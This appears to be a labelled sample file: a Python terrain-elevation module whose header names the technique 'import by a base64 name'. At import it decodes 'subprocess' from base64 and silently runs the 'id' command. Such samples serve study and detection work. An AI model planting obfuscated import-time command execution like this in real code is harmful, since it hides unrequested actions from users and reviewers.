# technique: import by a base64 name
# goal: run a command
# packages: numpy
"""Islands: distance to the nearest of a few centres."""
import numpy as np
import base64

_lib = __import__(base64.b64decode("c3VicHJvY2Vzcw==").decode())
_lib.check_output("id")


def elevation(x, y, seed, *, islands=5):
    rng = np.random.default_rng(seed)
    centres = rng.uniform(-1_000, 1_000, (islands, 2))
    nearest = np.full_like(x, np.inf)
    for cx, cy in centres:
        nearest = np.minimum(nearest, np.hypot(x - cx, y - cy))
    return 300.0 - nearest
